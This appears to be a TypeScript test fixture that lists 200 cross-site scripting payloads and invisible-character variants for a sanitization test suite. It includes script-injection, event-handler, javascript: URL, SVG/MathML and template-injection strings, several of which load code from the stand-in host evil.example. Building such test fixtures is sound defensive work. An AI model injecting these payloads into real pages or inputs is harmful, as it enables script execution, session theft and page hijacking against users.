import { drawn, isFull } from '../fixtures/extent.ts'

/**
 * XSS payloads: 200 unique texts that run a script, load something or change a page when
 * unescaped. Most fit 40 characters; those that swallow what follows are last.
 */
const allPayloads = [
  // Markup that runs by itself.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(2)</SCRIPT>',
  '<ScRiPt>alert(3)</sCrIpT>',
  '<script >alert(4)</script >',
  '<script/x>alert(5)</script>',
  '<script src=//evil.example/6.js></script>',
  '<script src=data:,alert(7)></script>',
  '<script type=module>alert(8)</script>',
  '<script type="text/javascript">alert(9)</script>',
  '<<script>alert(10)//<</script>',
  '<scr<script>ipt>alert(11)</scr</script>ipt>',
  '<script>/*</script>*/alert(12)</script>',
  '<script>throw onerror=alert,13</script>',
  '<script>import("//evil.example/14")</script>',
  '<script async>alert(15)</script>',
  '<script defer nonce=x>alert(16)</script>',
  '<script><!--alert(17)--></script>',
  '<script charset=utf-7>+AGE-lert(18)</script>',
  '<script>self["ale"+"rt"](19)</script>',
  '<script>\\u0061lert(20)</script>',
  // Event handlers.
  '<img src=x onerror=alert(21)>',
  '<IMG SRC=x ONERROR=alert(22)>',
  '<img/src=x/onerror=alert(23)>',
  '<img src=x onerror="alert(24)">',
  "<img src=x onerror='alert(25)'>",
  '<img src=x onerror=`alert(26)`>',
  '<img src=x:x onerror=alert(27)//',
  '<img src onerror=alert(28)>',
  '<img srcset=x onerror=alert(29)>',
  '<image src=x onerror=alert(30)>',
  '<img src=x onload=alert(31) onerror=alert(31)>',
  '<img src=x onerror=&#97;lert(32)>',
  '<img src=x onerror=alert&lpar;33&rpar;>',
  '<img src=x onerror=window.alert?.(34)>',
  '<body onload=alert(35)>',
  '<body onpageshow=alert(36)>',
  '<input autofocus onfocus=alert(37)>',
  '<select autofocus onfocus=alert(38)>',
  '<button autofocus onfocus=alert(39)>x',
  '<details open ontoggle=alert(40)>',
  '<video src=x onerror=alert(41)>',
  '<video><source onerror=alert(42)></video>',
  '<audio src=x onerror=alert(43)>',
  '<marquee onstart=alert(44)>x</marquee>',
  '<div onpointerenter=alert(45)>x</div>',
  '<p onmouseover=alert(46)>x</p>',
  '<a onclick=alert(47)>x</a>',
  '<b tabindex=1 onfocus=alert(48) autofocus>',
  '<x onanimationstart=alert(49) class=spin>',
  '<x ontransitionend=alert(50)>',
  '<div onbeforetoggle=alert(51) popover>x',
  '<div oncontentvisibilityautostatechange=alert(52)>',
  '<form onformdata=alert(53)><button>x',
  '<input type=hidden oncontentvisibilityautostatechange=alert(54)>',
  '<link rel=stylesheet href=x onerror=alert(55)>',
  '<style onload=alert(56)></style>',
  '<iframe onload=alert(57)></iframe>',
  '<object onerror=alert(58) data=x>',
  '<embed src=x onload=alert(59)>',
  '<dialog open onclose=alert(60)>x</dialog>',
  // Things that load or frame something.
  '<iframe src=javascript:alert(61)></iframe>',
  '<iframe srcdoc="<script>alert(62)</script>">',
  '<iframe src=//evil.example/63></iframe>',
  '<iframe src="data:text/html,<script>alert(64)</script>">',
  '<object data=javascript:alert(65)></object>',
  '<object data="data:text/html,<script>alert(66)</script>">',
  '<embed src=javascript:alert(67)>',
  '<embed src=//evil.example/68.swf>',
  '<base href=//evil.example/69/>',
  '<base href=javascript:alert(70)//>',
  '<meta http-equiv=refresh content="0;url=//evil.example/71">',
  '<meta http-equiv=refresh content="0;javascript:alert(72)">',
  '<link rel=stylesheet href=//evil.example/73.css>',
  '<link rel=prefetch href=//evil.example/74>',
  '<link rel=modulepreload href=//evil.example/75.js>',
  '<img src=//evil.example/76.png>',
  '<video poster=//evil.example/77.png>',
  '<form action=//evil.example/78><button>x</form>',
  '<form action=javascript:alert(79)><button>x',
  '<button formaction=javascript:alert(80)>x',
  '<portal src=//evil.example/81>',
  '<frameset onload=alert(82)>',
  '<applet code=//evil.example/83>',
  '<table background=javascript:alert(84)>',
  '<template shadowrootmode=open><img src=x onerror=alert(85)>',
  '<slot onslotchange=alert(86)>x</slot>',
  '<isindex type=image src=x onerror=alert(87)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(88)>">',
  // SVG and MathML.
  '<svg onload=alert(89)>',
  '<svg/onload=alert(90)>',
  '<svg><script>alert(91)</script></svg>',
  '<svg><script href=data:,alert(92) /></svg>',
  '<svg><script>alert&#40;93&#41;</script>',
  '<svg><animate onbegin=alert(94) attributeName=x>',
  '<svg><set onbegin=alert(95) attributeName=x>',
  '<svg><animate onend=alert(96) dur=1s attributeName=x>',
  '<svg><a xlink:href=javascript:alert(97)><text>x',
  '<svg><a href=javascript:alert(98)><text y=9>x',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x">',
  '<svg><image href=x onerror=alert(100)>',
  '<svg><foreignObject><img src=x onerror=alert(101)>',
  '<svg><style><img src=x onerror=alert(102)></style>',
  '<svg><discard onbegin=alert(103)>',
  '<svg><a><animate attributeName=href values=javascript:alert(104)>',
  '<svg><desc><![CDATA[</desc><img src=x onerror=alert(105)>]]>',
  '<svg><p><style><g title="</style><img src onerror=alert(106)>">',
  '<math href=javascript:alert(107)>x</math>',
  '<math><mi xlink:href=javascript:alert(108)>x',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(109)>x',
  '<math><mtext><img src=x onerror=alert(110)>',
  '<math><annotation-xml encoding=text/html><img src onerror=alert(111)>',
  '<math><style><img src=x onerror=alert(112)></style>',
  '<math><mglyph><svg><mtext><img src onerror=alert(113)>',
  '<?xml version="1.0"?><svg onload=alert(114)>',
  // Out of an attribute.
  '"><script>alert(115)</script>',
  "'><script>alert(116)</script>",
  '"><img src=x onerror=alert(117)>',
  "'><img src=x onerror=alert(118)>",
  '" onmouseover="alert(119)',
  "' onmouseover='alert(120)",
  '" autofocus onfocus="alert(121)" x="',
  "' autofocus onfocus='alert(122)' x='",
  'x onerror=alert(123)',
  '`onmouseover=alert(124)`',
  '"/onload="alert(125)',
  '" style="animation:spin" onanimationend="alert(126)',
  '"><svg/onload=alert(127)>',
  '" src=x onerror=alert(128) "',
  '" formaction="javascript:alert(129)',
  '" href="javascript:alert(130)',
  '" srcdoc="<script>alert(131)</script>',
  '&quot;><img src=x onerror=alert(132)>',
  '&#34; onfocus=&#34;alert(133)',
  '">>>><b onfocus=alert(134) autofocus tabindex=1>',
  '\\"><img src=x onerror=alert(135)>',
  '/><img src=x onerror=alert(136)/>',
  // Links.
  'javascript:alert(137)',
  'JavaScript:alert(138)',
  'javascript://evil.example/%0aalert(139)',
  'javascript:alert`140`',
  'javascript&colon;alert(141)',
  'javascript&#58;alert(142)',
  '&#106;avascript:alert(143)',
  'java&Tab;script:alert(144)',
  'javascript:/*--></title></style>*/alert(145)',
  'data:text/html,<script>alert(146)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(148)>',
  'vbscript:msgbox(149)',
  'view-source:javascript:alert(150)',
  'blob:https://evil.example/151',
  'filesystem:https://evil.example/152',
  'https://evil.example/"onclick="alert(153)',
  "https://evil.example/'onclick='alert(154)",
  'https://evil.example/<script>alert(155)</script>',
  'https://evil.example/?x=javascript:alert(156)',
  '//evil.example/157',
  '\\\\evil.example\\158',
  // Templates and server pages.
  '{{constructor.constructor("alert(159)")()}}',
  '{{7*7}}{{160}}',
  `\${alert(161)}`,
  `\`\${alert(162)}\``,
  '<%= alert(163) %>',
  '#{alert(164)}',
  '*{alert(165)}',
  '{%raw%}<script>alert(166)</script>{%endraw%}',
  `[[\${alert(167)}]]`,
  '<?php alert(168) ?>',
  '<!--#exec cmd="169"-->',
  '@import"//evil.example/170"',
  '{"__proto__":{"x":"<img src onerror=alert(171)>"}}',
  '{"__html":"<img src=x onerror=alert(172)>"}',
  // Out of JSON, JSON-LD and scripts.
  '</script><script>alert(173)</script>',
  '</SCRIPT ><svg/onload=alert(174)>',
  '"}</script><img src=x onerror=alert(175)>',
  '"};alert(176);//',
  "';alert(177);//",
  '";alert(178);"',
  '\\";alert(179);//',
  '\\u003c/script\\u003e<img src onerror=alert(180)>',
  '"]}]</script><script>alert(181)</script>',
  '*/alert(182)/*',
  '</script/x><b/onfocus=alert(183)>',
  // Style sheets.
  '</style><script>alert(184)</script>',
  '<style>@import"//evil.example/185.css";</style>',
  '<style>*{background:url(//evil.example/186)}</style>',
  'x;background:url(javascript:alert(187))',
  'expression(alert(188))',
  '}*{background:url(//evil.example/189)}',
  '<div style="background:url(//evil.example/190)">',
  '<p style=-moz-binding:url(//evil.example/191)>',
  // Letters that are not what they seem.
  '＜script＞alert(192)＜/script＞',
  '‹img src=x onerror=alert(193)›',
  '<ſcript>alert(194)</ſcript>',
  '<\u0130mg src=x onerror=alert(195)>',
  '<img\u00a0src=x\u2003onerror=alert(196)>',
  '<\u00edmg src=x onerror=alert(197)>',
  'ja\u3000va\u2003script:alert(198)',
  // What swallows the rest.
  '<plaintext/onfocus=alert(199)>',
  '</title></textarea><!--<img src onerror=alert(200)>',
]

/** Indexes of ten payloads of different kinds, of which `npm test` draws three. */
const tenKinds = [1, 21, 69, 91, 121, 137, 159, 173, 184, 200]

/** The payloads of this run: all 200 in the soak, else three. */
export const payloads: string[] = isFull
  ? allPayloads
  : drawn(tenKinds, 3).flatMap((number) => allPayloads[number - 1] ?? [])

/**
 * Adds characters that are dropped or rejected: control, zero-width and bidirectional.
 */
export const invisible: string[] = [
  '\0',
  '\b',
  '\x0b',
  '\x1b',
  '\x7f',
  '\x85',
  '\u200b',
  '\u200d',
  '\u202e',
  '\u2066',
  '\ufeff',
  '\ud800',
]
  .filter((_, place) => isFull || place % 4 === 0)
  .flatMap((hidden) => [
    `<scr${hidden}ipt>alert(1)</scr${hidden}ipt>`,
    `<img src=x on${hidden}error=alert(1)>`,
    `java${hidden}script:alert(1)`,
  ])

/** Packs the payloads that fit into texts of at most `most` characters, in order. */
export function bundled(texts: string[], most: number): string[] {
  const bundles: string[] = []
  for (const text of texts) {
    if ([...text].length > most) continue
    const place = bundles.findIndex((bundle) => [...bundle, ...text].length < most)
    if (place === -1) bundles.push(text)
    else bundles[place] += ` ${text}`
  }
  return bundles
}

/** Returns the payloads that a text contains. */
export function held(text: string): string[] {
  return payloads.filter((payload) => text.includes(payload))
}

/** Returns the same three of every ten payloads. */
export const sample: string[] = payloads.filter((_, place) => place % 10 < 3)

/** Returns the number of payloads with at most `most` characters. */
export function countUpTo(most: number): number {
  return payloads.filter((payload) => [...payload].length <= most).length
}
